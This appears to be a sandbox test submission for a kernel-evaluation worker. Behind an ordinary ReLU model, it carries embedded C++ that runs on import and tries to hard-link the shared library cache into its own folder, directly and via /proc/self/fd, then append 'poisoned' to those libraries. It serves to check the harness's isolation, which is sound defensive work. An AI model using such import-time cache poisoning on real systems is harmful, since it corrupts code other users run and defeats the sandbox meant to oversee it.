"""Makes hard links to the shared cache's libraries (another source's among them) in the one host
folder it may write, its own, directly and through `/proc/self/fd`, then appends to the library
through the link: a link is the same file, so a write through it would change the cache entry."""

import os

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <unistd.h>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}

extern "C" void attack(const char* cache, const char* own, int32_t* ok, char* msg) {
    DIR* d = opendir(cache);
    if (!d) { snprintf(msg, 255, "%s: %s", cache, strerror(errno)); return; }
    int n = 0;
    std::string why = "no library in the cache";
    while (dirent* e = readdir(d)) {
        std::string name = e->d_name;
        if (name.size() < 4 || name.compare(name.size() - 3, 3, ".so") != 0) continue;
        std::string from = std::string(cache) + "/" + name, to = std::string(own) + "/link-" + std::to_string(n++);
        int made = link(from.c_str(), to.c_str());
        if (made != 0) {
            why = "link " + from + ": " + strerror(errno);
            int fd = open(from.c_str(), O_RDONLY);  // the same through a descriptor's magic link
            std::string magic = "/proc/self/fd/" + std::to_string(fd);
            made = linkat(AT_FDCWD, magic.c_str(), AT_FDCWD, (to + "-fd").c_str(), AT_SYMLINK_FOLLOW);
            if (made != 0) why += std::string("; linkat /proc/self/fd: ") + strerror(errno);
            else to += "-fd";
            close(fd);
        }
        if (made != 0) continue;
        int w = open(to.c_str(), O_WRONLY | O_APPEND);
        if (w >= 0 && write(w, "poisoned", 8) == 8) { *ok = 1; close(w); break; }
        why = "write through the link " + to + ": " + strerror(errno);
        if (w >= 0) close(w);
        *ok = 1;  // a link into the cache exists in a host folder: already more than it may do
    }
    closedir(d);
    snprintf(msg, 255, "%s", why.c_str());
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64],
                         "attack": [native.PTR, native.PTR, native.PTR, native.PTR]})

_cache = torch.tensor(list(os.path.dirname(_lib._name).encode()) + [0], dtype=torch.uint8)
_own = torch.tensor(list(os.environ["KFORGE_WORKDIR"].encode()) + [0], dtype=torch.uint8)
_ok = torch.zeros(1, dtype=torch.int32)
_msg = torch.zeros(256, dtype=torch.uint8)
_lib.attack(native.ptr(_cache, None), native.ptr(_own, None), native.ptr(_ok, None), native.ptr(_msg, None))
if not int(_ok[0]):
    raise RuntimeError("attack blocked: " + bytes(_msg.tolist()).split(b"\0")[0].decode(errors="replace"))


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
